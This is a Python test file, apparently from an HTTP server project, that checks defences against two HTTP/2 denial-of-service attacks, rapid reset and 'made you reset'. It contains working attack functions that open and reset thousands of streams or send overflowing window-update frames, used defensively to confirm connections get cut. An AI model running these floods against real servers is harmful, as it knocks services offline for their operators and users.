"""CVE-2023-44487 (rapid reset) and CVE-2025-8671 (made you reset)."""
import contextlib
import unittest

from attack import AttackTest, frame

PAIRS = 20000
PATH = "/api/v2/session"


def send(connection, data):
    """False when the other side has closed."""
    with contextlib.suppress(OSError):
        connection.sock.sendall(data)
        return True
    return False


def rapid_reset(target):
    """Streams opened and reset at once; how many the server let us."""
    done = 0
    while done < PAIRS:
        c, here = target.http2(), 0
        while done < PAIRS and here < PAIRS:
            for _ in range(100):
                stream = c.request(PATH)
                c.h2.reset_stream(stream)
                done += 1
                here += 1
            if not send(c, c.h2.data_to_send()):
                break
        c.close()
        if here == PAIRS:
            return PAIRS
    return max(here, 1)


def made_you_reset(target):
    """Streams whose window we overflow, so that the server itself must reset them."""
    most = 0
    for _ in range(20):
        c, here = target.http2(), 0
        while here < 1000:
            for _ in range(50):
                stream = c.request(PATH)
                header = c.h2.data_to_send()
                if not send(c, header + frame(8, 0, stream, (0x7fffffff).to_bytes(4, "big"))):
                    break
                here += 1
            else:
                continue
            break
        c.close()
        most = max(most, here)
    return most


class RapidResetTest(AttackTest):
    def test_is_cut_and_fills_no_queue(self):
        def attack(target):
            before = target.counter("hayloft_pool_served_total")
            rapid_reset(target)
            return (target.counts('hayloft_connections_cut_total{reason="resets"}'),
                    target.counter("hayloft_pool_served_total") - before)
        cut, served = self.unharmed(attack)
        self.assertGreater(cut, 0)
        # What was reset before a worker had it never runs.
        self.assertLess(served, PAIRS / 2)

    def test_bare_lets_all_through(self):
        self.assertEqual(PAIRS, self.against_bare(rapid_reset))


class MadeYouResetTest(AttackTest):
    def test_is_cut(self):
        def attack(target):
            made_you_reset(target)
            return target.counts('hayloft_connections_cut_total{reason="resets"}')
        self.assertGreater(self.unharmed(attack), 0)

    def test_bare_lets_all_through(self):
        self.assertEqual(1000, self.against_bare(made_you_reset))


if __name__ == "__main__":
    unittest.main()
